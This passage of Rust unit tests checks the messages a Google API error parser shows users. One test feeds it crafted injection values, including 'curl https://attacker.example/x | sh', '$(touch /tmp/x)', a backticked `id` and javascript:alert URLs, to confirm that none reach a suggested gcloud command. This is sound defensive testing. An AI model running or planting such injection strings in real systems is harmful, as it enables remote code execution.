            "An API this check calls is disabled in project 77 — the project Google charges these requests to (the quota project), which can differ from the project you check. Google said: \"An API has not been used in project=77 before or it is disabled.\" Enable it in the Cloud console, wait a minute, and re-check."
        );
    }

    #[test]
    fn service_disabled_full_text() {
        let body = r#"{"error":{"code":403,"message":"m","status":"PERMISSION_DENIED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"SERVICE_DISABLED","domain":"googleapis.com","metadata":{"consumer":"projects/9","service":"compute.googleapis.com","activationUrl":"https://console.example/compute"}}]}}"#;
        assert_eq!(
            GoogleError::from_response(403, body).to_string(),
            "The API compute.googleapis.com is disabled in project 9 — the project Google charges these requests to (the quota project), which can differ from the project you check. Enable it with `gcloud services enable compute.googleapis.com --project 9` or in the Cloud console, wait a minute, and re-check."
        );
    }

    #[test]
    fn not_found_other_and_the_rest_say_what_google_said() {
        let text = |status: u16, body: &str| GoogleError::from_response(status, body).to_string();
        let not_found = GoogleError::from_response(
            404,
            r#"{"error":{"code":404,"message":"Unknown service account","status":"NOT_FOUND"}}"#,
        );
        assert_eq!(not_found.kind(), Some(&ErrorKind::NotFound));
        assert!(!not_found.is_transient());
        assert_eq!(not_found.to_string(), "Not found: Unknown service account");
        let conflict = GoogleError::from_response(
            409,
            r#"{"error":{"code":409,"message":"Conflict here","status":"ABORTED"}}"#,
        );
        assert_eq!(conflict.kind(), Some(&ErrorKind::Other));
        assert_eq!(
            conflict.to_string(),
            "Google answered HTTP 409: Conflict here"
        );
        assert_eq!(
            text(
                403,
                r#"{"error":{"code":403,"message":"nope","status":"PERMISSION_DENIED"}}"#
            ),
            "Permission denied: it does not exist or this account cannot see it. (nope)"
        );
        assert_eq!(
            text(
                500,
                r#"{"error":{"code":500,"message":"boom","status":"INTERNAL"}}"#
            ),
            "Google had a server error (HTTP 500), even after retrying: boom"
        );
        assert_eq!(
            text(
                400,
                r#"{"error":{"code":400,"message":"bad","status":"INVALID_ARGUMENT"}}"#
            ),
            "Google refused the request: bad"
        );
        assert_eq!(
            text(401, EXPIRED),
            "The access token has expired. Get a new one with `gcloud auth print-access-token` and paste it again."
        );
        assert_eq!(
            text(
                403,
                r#"{"error":{"code":403,"message":"x","errors":[{"reason":"insufficientPermissions"}]}}"#
            ),
            SCOPE_HELP
        );
        assert_eq!(
            text(
                400,
                r#"{"error":{"code":400,"message":"Permission a.b.c is not valid for this resource."}}"#
            ),
            "a.b.c cannot be tested on this resource."
        );
        assert_eq!(
            text(502, "<html>"),
            "Google's answer could not be read (HTTP 502): HTTP 502 with a body that is not a Google error."
        );
        let network = ApiError::Network {
            detail: "offline".into(),
        };
        assert!(network.google().is_none() && network.kind().is_none());
        assert!(!network.is_transient() && !network.is_token_problem());
        assert!(network
            .to_string()
            .starts_with("Could not reach Google (offline)."));
    }

    #[test]
    fn serialises_for_reports() {
        let e = GoogleError::from_response(401, EXPIRED);
        let json = serde_json::to_value(&e).unwrap();
        assert_eq!(json["type"], "google");
        assert_eq!(json["kind"]["kind"], "token_expired");
        assert_eq!(json["reason"], "ACCESS_TOKEN_EXPIRED");
    }

    #[test]
    fn hostile_service_disabled_bodies_never_reach_a_command() {
        let body = |service: &str, consumer: &str| {
            serde_json::json!({"error": {"code": 403, "status": "PERMISSION_DENIED",
                "message": format!("{service} has not been used in project {consumer} before or it is disabled."),
                "details": [{"@type": "type.googleapis.com/google.rpc.ErrorInfo", "reason": "SERVICE_DISABLED",
                    "domain": "googleapis.com",
                    "metadata": {"service": service, "consumer": consumer,
                        "activationUrl": "javascript:alert(document.domain)"}},
                  {"@type": "type.googleapis.com/google.rpc.Help",
                    "links": [{"description": "x", "url": "javascript:alert(1)"}]}]}})
            .to_string()
        };
        let evil = "evil; curl https://attacker.example/x | sh;";
        let text =
            GoogleError::from_response(403, &body(evil, "projects/410000000001")).to_string();
        assert!(!text.contains("curl") && !text.contains(';'), "{text}");
        assert!(!text.contains("gcloud services enable"), "{text}");
        assert!(text.contains("no command is shown"), "{text}");
        // A good service with a hostile consumer: the command, without --project.
        let text = GoogleError::from_response(
            403,
            &body("compute.googleapis.com", "projects/1$(touch /tmp/x)"),
        )
        .to_string();
        assert!(
            text.contains("`gcloud services enable compute.googleapis.com` in that project"),
            "{text}"
        );
        assert!(!text.contains("touch") && !text.contains("$("), "{text}");
        // The shared-project advice names the service only when it is one.
        let text = GoogleError::from_response(
            403,
            &body(
                "x`id`.googleapis.com",
                &format!("projects/{GCLOUD_SHARED_PROJECT}"),
            ),
        )
        .to_string();
        assert!(!text.contains("`id`"), "{text}");
    }
}
